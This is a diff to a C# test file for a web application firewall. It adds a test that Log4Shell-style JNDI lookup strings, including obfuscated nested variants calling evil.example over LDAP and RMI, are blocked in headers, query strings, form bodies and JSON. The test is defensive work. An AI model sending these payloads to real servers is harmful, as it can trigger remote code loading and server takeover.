@@ -64,6 +64,26 @@ public sealed class WafBlockSpecs(WafFixture fixture) : IClassFixture<WafFixture
         Assert.DoesNotContain("odSecurity", answer);
     }
 
+    [Theory]
+    [InlineData("${jndi:ldap://evil.example/a}")]
+    [InlineData("${${lower:j}ndi:rmi://evil.example/a}")]
+    [InlineData("${${env:NOTHING:-j}n${::-d}i:ldap://evil.example/a}")]
+    public void Logger_lookup_is_blocked_wherever_it_stands(string lookup)
+    {
+        foreach (var request in new[]
+        {
+            Http.Get("/", $"X-Api-Version: {lookup}\r\n"),
+            Http.Get("/?q=" + Uri.EscapeDataString(lookup)),
+            Http.Form("q=" + Uri.EscapeDataString(lookup)),
+            Http.Json($"{{\"q\":\"{lookup}\"}}"),
+        })
+        {
+            using var conversation = new Conversation(fixture.System);
+            Assert.Equal(VerdictKind.Block, conversation.Client(request));
+            Assert.Equal("attack-rce", conversation.Threat.Category);
+        }
+    }
+
     [Fact]
     public void Attack_after_clean_exchanges_is_answered()
     {
